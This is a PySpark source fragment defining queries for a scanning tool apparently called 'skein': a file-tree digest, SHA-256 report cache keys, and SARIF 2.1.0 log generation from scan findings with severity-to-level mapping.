def tree_digest(spark: SparkSession, d: str) -> DataFrame:
    b = read(spark, d, "file_blobs", "report_id", "file_path", "data").distinct()
    return files.tree_digest(b.select(F.col("report_id").cast("string").alias("scan_id"), F.col("file_path").alias("path"), F.col("data").alias("content")))


@query("fp05_report_keys", """select report_id, sha256('{"kind":"' || kind || '","locator":"' || locator || '","resolved":"' || coalesce(resolved, '') || '"}') as cache_key from (select distinct report_id, kind, locator, resolved from reports)""")
def report_keys(spark: SparkSession, d: str) -> DataFrame:
    r = read(spark, d, "reports", "report_id", "kind", "locator", "resolved").distinct()
    return r.select("report_id", FI.report_key(F.col("kind"), F.col("locator"), F.coalesce("resolved", F.lit("")).alias("resolved")).alias("cache_key"))


@query("fp07_sarif")
def sarif(spark: SparkSession, d: str) -> DataFrame:
    """One SARIF log per scan of stored files, made by the tasks."""
    f = _scan_findings(spark, d)
    level = F.when(F.col("severity").isin("critical", "high"), "error").when(F.col("severity") == "medium", "warning").otherwise("note")
    result = F.struct(F.col("rule_id").alias("ruleId"), level.alias("level"), F.struct(F.col("message").alias("text")).alias("message"), F.array(F.struct(F.struct(F.struct(F.col("path").alias("uri")).alias("artifactLocation"), F.struct(F.col("line").alias("startLine")).alias("region")).alias("physicalLocation"))).alias("locations"), F.struct(F.col("fingerprint").alias("primary/v1")).alias("partialFingerprints"))
    key = F.struct((-FI.rank(F.col("severity"))).alias("r"), "rule_id", "path", "line", "fingerprint")
    g = f.groupBy("scan_id").agg(F.transform(F.array_sort(F.collect_list(F.struct(key.alias("k"), result.alias("x")))), lambda x: x["x"]).alias("results"))
    log = F.struct(F.lit("2.1.0").alias("version"), F.array(F.struct(F.struct(F.struct(F.lit("skein").alias("name")).alias("driver")).alias("tool"), "results")).alias("runs"))
    return g.select("scan_id", F.to_json(log).alias("log"))
